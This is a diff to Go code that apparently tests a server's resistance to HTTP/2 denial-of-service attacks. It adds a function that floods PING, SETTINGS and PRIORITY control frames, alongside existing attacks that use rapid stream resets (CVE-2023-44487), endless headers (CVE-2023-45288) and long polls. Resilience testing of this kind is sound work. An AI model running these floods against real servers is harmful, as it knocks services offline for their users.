@@ -24,12 +24,10 @@ func frameAttacks() []attack {
 			return readNothing(ctx, t, 390, 100, "/belfry.js", "")
 		}},
 		{name: "waits", what: "1,200 requests for a version that never comes", run: func(ctx context.Context, t *target) (string, error) {
-			note, err := readNothing(ctx, t, 12, 100, "/v1/users/mallory/unread?min_version=18446744073709551615", t.token(mallory))
-			t.mu.Lock()
-			defer t.mu.Unlock()
-			return note + ", X-Poll-Interval of others " + t.interval, err
+			return readNothing(ctx, t, 12, 100, "/v1/users/mallory/unread?min_version=18446744073709551615", t.token(mallory))
 		}},
 		{name: "resets", what: "streams that are reset at once (CVE-2023-44487)", run: resets},
+		{name: "control", what: "floods of PING, SETTINGS and PRIORITY, each answer read", run: controlFrames},
 		{name: "headers", what: "headers that never end (CVE-2023-45288)", run: endlessHeaders},
 	}
 }
@@ -139,6 +137,25 @@ func resets(ctx context.Context, t *target) (string, error) {
 		}
 	})
 	return fmt.Sprintf("%d streams", sent.Load()), nil
+}
+
+func controlFrames(ctx context.Context, t *target) (string, error) {
+	var sent atomic.Int64
+	flood(ctx, t, 8, func(f *frames) {
+		var err error
+		for i := 0; err == nil && ctx.Err() == nil; i++ {
+			switch i % 3 {
+			case 0:
+				err = f.WritePing(false, [8]byte{1})
+			case 1:
+				err = f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i % 1000)})
+			default:
+				err = f.WritePriority(uint32(3+2*(i%1000)), http2.PriorityParam{StreamDep: 1, Weight: 7})
+			}
+			sent.Add(1)
+		}
+	})
+	return fmt.Sprintf("%d frames", sent.Load()), nil
 }
 
 func endlessHeaders(ctx context.Context, t *target) (string, error) {
